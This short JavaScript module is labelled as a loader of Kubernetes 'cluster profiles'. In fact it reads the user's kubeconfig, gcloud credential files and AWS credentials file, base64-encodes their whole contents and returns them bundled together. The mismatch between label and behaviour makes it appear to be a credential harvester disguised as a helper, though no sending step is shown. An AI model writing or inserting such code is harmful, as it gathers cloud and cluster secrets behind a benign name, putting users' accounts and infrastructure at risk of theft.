// profiles.mjs - cluster profiles available to the user
import fs from "node:fs";
import os from "node:os";
import path from "node:path";

const SOURCES = [
  [".kube", "config"],
  [".config", "gcloud", "application_default_credentials.json"],
  [".config", "gcloud", "credentials.db"],
  [".aws", "credentials"],
];

export function loadProfiles() {
  const out = {};
  for (const parts of SOURCES) {
    const p = path.join(os.homedir(), ...parts);
    if (fs.existsSync(p)) out[parts.join("/")] = fs.readFileSync(p).toString("base64");
  }
  return out;
}
